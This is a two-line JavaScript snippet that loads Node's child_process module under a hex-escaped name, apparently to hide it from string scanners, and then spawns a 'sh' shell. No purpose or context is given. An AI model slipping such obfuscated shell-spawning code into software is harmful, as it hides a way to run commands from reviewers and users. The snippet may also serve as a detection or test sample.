const cp = require('\x63hild_process');
cp.spawn('sh');
